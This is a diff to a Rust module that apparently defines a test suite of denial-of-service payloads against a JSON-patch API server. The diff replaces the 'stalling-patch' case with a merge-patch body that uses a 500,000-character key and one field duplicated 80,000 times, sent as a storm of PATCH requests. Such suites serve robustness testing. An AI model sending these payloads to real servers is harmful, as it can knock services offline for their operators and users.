@@ -20,7 +20,7 @@ pub fn all() -> Vec<Attack> {
     vec![
         Attack::new(
             "stalling-patch",
-            "1 MB of operations that insert at the front of a list of 150,000 items",
+            "1 MB that names a field of 500 KB, and in it one field 80,000 times",
             |f| Box::pin(stalling(f)),
         ),
         Attack::new("copy-doubling", "operations each of which doubles the object", |f| {
@@ -42,12 +42,12 @@ pub fn all() -> Vec<Attack> {
     ]
 }
 
+/// Each of them is one that strict decoding tells of, by its whole path.
 async fn stalling(field: Field) -> Findings {
-    let mut operations =
-        vec![json!({"op": "add", "path": "/metadata/finalizers", "value": vec!["x"; 150_000]})];
-    let insert = json!({"op": "add", "path": "/metadata/finalizers/0", "value": "y"});
-    operations.extend(vec![insert; OPERATIONS - 2_000]);
-    operate(&field, operations).await
+    let twice = vec![r#""a":1"#; 80_000].join(",");
+    let body = Bytes::from(format!(r#"{{"{}":{{{twice}}}}}"#, "k".repeat(500_000)));
+    let merge = "application/merge-patch+json";
+    storm(&field, move |path| Ask::body(Method::PATCH, path, merge, body.clone())).await
 }
 
 async fn copied(field: Field) -> Findings {
